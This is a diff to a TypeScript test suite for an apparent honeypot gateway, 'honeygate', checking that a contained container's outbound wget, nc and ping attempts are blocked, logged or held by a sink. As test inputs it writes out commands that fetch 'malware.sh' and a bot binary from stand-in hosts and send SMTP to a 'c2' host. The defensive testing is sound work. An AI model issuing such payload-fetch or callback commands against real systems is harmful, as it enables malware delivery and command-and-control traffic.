@@ -4,6 +4,8 @@
 // itself. Every attempt is dropped and recorded as an egress event with its destination and
 // port, while an attacker's sessions to the same container (through honeygate, and through
 // Docker's published port) keep working and an allow-listed resolver (dnsmasq) still answers.
+// Last, a reload adds contain.sink: the container's wget is then held by honeygate's sink and
+// its request line recorded with the original destination.
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
@@ -130,6 +132,10 @@ contain:
     if (rootBefore) assert.deepEqual(rootState(), rootBefore, 'the root namespace is left as it was');
   });
 
+  // Debian's busybox-static 1.35 wget dies of SIGSEGV (exit 139) before it sends anything
+  // whenever -T is given: the attempts below bound wget with the timeout applet instead.
+  const WGET = 'timeout 3 wget -q -O-';
+
   /** Runs a shell command in the honeypot container; resolves to its exit code and output. */
   async function inHoneypot(script: string): Promise<{ code: number | null; out: string }> {
     const r = await engine.cli(['exec', 'hp', 'sh', '-c', script], {}, 60_000);
@@ -164,9 +170,8 @@ contain:
 
   test('wget, nc and a ping sweep toward 203.0.113.0/24 are dropped and recorded', {
     skip,
-    todo: 'known gap: blocked, but TCP and ICMP attempts from a Docker bridge leave no egress event yet (UDP does)',
   }, async () => {
-    const wget = await inHoneypot('wget -q -T 2 -O- http://203.0.113.10/malware.sh');
+    const wget = await inHoneypot(`${WGET} http://203.0.113.10/malware.sh`);
     assert.notEqual(wget.code, 0, `wget must fail: ${wget.out}`);
     const nc = await inHoneypot('echo EHLO | nc -w 2 203.0.113.10 25');
     assert.notEqual(nc.code, 0, `nc must fail: ${nc.out}`);
@@ -185,24 +190,31 @@ contain:
     const pings = await waitFor(
       'egress events for the ping sweep',
       () => {
-        const hosts = new Set(
+        const hosts = new Map(
           egress()
             .filter((e) => e.src.ip === HP && e.protocol === 'icmp' && e.dst.ip.startsWith('203.0.113.'))
-            .map((e) => e.dst.ip),
+            .map((e) => [e.dst.ip, e]),
         );
         return hosts.size >= 12 && hosts;
       },
       15_000,
     );
+    for (const e of pings.values()) {
+      assert.equal(e.dst.port, 0, 'ICMP has no port');
+      assert.deepEqual(
+        [e.protocolFields?.icmpType, e.protocolFields?.icmpTypeName],
+        [8, 'echo-request'],
+        `the type of the ping to ${e.dst.ip}`,
+      );
+    }
     for (let i = 1; i <= 12; i++) assert.ok(pings.has(`203.0.113.${i}`), `ping to 203.0.113.${i} recorded`);
     assert.equal(fs.existsSync(path.join(dir, 'victim-hits')), false, 'nothing reached the victim');
   });
 
   test('attempts at the gateway itself are dropped and recorded', {
     skip,
-    todo: 'known gap: blocked, but TCP and ICMP attempts from a Docker bridge leave no egress event yet (UDP does)',
   }, async () => {
-    const wget = await inHoneypot(`wget -q -T 2 -O- http://${BRIDGE}:2222/`);
+    const wget = await inHoneypot(`${WGET} http://${BRIDGE}:2222/`);
     assert.notEqual(wget.code, 0, `wget to the gateway must fail: ${wget.out}`);
     const ping = await inHoneypot(`ping -c 1 -W 1 ${BRIDGE}`);
     assert.notEqual(ping.code, 0, 'the gateway does not answer the honeypot');
@@ -211,6 +223,7 @@ contain:
       () => seen(BRIDGE, 2222, 'tcp') && seen(BRIDGE, 0, 'icmp'),
       15_000,
     );
+    assert.equal(seen(BRIDGE, 0, 'icmp')?.protocolFields?.icmpTypeName, 'echo-request');
   });
 
   test('an allow-listed resolver still answers, and is not recorded', {
@@ -261,5 +274,67 @@ contain:
     const nc = await inHoneypot('echo x | nc -w 2 203.0.113.10 80');
     assert.notEqual(nc.code, 0, 'still held in');
     assert.equal(fs.existsSync(path.join(dir, 'victim-hits')), false, 'nothing reached the victim');
+  });
+
+  test('sink: a wget is held by honeygate, its request line recorded with the original destination', {
+    skip,
+  }, async () => {
+    // reload with contain.sink: new TCP connections from the honeypot now go to the sink
+    fs.appendFileSync(path.join(dir, 'honeygate.yaml'), '  sink: { hold: 1s }\n');
+    const pid = gw.records.find((r) => r.msg === 'ready')?.pid;
+    assert.equal(typeof pid, 'number', 'the ready line names the pid');
+    process.kill(pid as number, 'SIGHUP');
+    await gw.waitForLog('the sink', (r) => r.msg === 'contain.sink listening');
+    await gw.waitForLog('the reload', (r) => r.msg === 'config reloaded');
+    assert.ok(!gw.records.some((r) => String(r.msg).includes('its firewall rules failed')), gw.output());
+    await waitFor(
+      'the sink chain',
+      () =>
+        inGateway(farm, ['nft', 'list', 'chain', 'inet', 'honeygate', 'contain_sink']).includes('redirect'),
+      10_000,
+    );
+
+    const wget = await inHoneypot(`${WGET} 'http://203.0.113.11/bot/x86?id=7'`);
+    assert.notEqual(wget.code, 0, `the sink answers nothing: ${wget.out}`);
+    const held = await waitFor(
+      'the sink event',
+      () => egress().find((e) => e.action === 'capture' && e.dst.ip === '203.0.113.11'),
+      15_000,
+    );
+    assert.deepEqual(
+      [held.src.ip, held.dst, held.protocol, held.listener],
+      [HP, { ip: '203.0.113.11', port: 80 }, 'tcp', 'contain.sink'],
+    );
+    assert.ok(held.src.port > 0, 'the honeypot side port is kept');
+    assert.match(
+      held.firstBytes.toString('latin1'),
+      /^GET \/bot\/x86\?id=7 HTTP\/1\.[01]\r\nHost: 203\.0\.113\.11\r\n/,
+    );
+    assert.equal(held.closeReason, 'capture-timeout', 'held for contain.sink.hold, then closed');
+    assert.equal(fs.existsSync(path.join(dir, 'victim-hits')), false, 'nothing reached the victim');
+
+    // toward the gateway itself too
+    const nc = await inHoneypot(`echo 'EHLO c2.example' | timeout 3 nc ${BRIDGE} 25`);
+    assert.doesNotMatch(nc.out, /\S/, `the sink sends nothing: ${nc.out}`);
+    const smtp = await waitFor(
+      'the sink event for the gateway',
+      () => egress().find((e) => e.action === 'capture' && e.dst.ip === BRIDGE && e.dst.port === 25),
+      15_000,
+    );
+    assert.equal(smtp.firstBytes.toString('latin1'), 'EHLO c2.example\n');
+
+    // nobody reaches the sink's port directly; the attacker's sessions are untouched
+    const direct = await farm.topology.exec(farm.attacker1.ns, [
+      'socat',
+      '-u',
+      'OPEN:/dev/null',
+      `TCP:${farm.attacker1.gw4}:15071,connect-timeout=1`,
+    ]);
+    assert.notEqual(direct.code, 0, 'the sink port is closed to everyone but redirected connections');
+    const session = await connectFrom(farm.topology, farm.attacker1.ns, farm.attacker1.gw4, 2222);
+    assert.match(await session.line(), /^peer /);
+    session.write('still here\n');
+    assert.equal(await session.line(), 'still here');
+    await session.close();
   });
 });
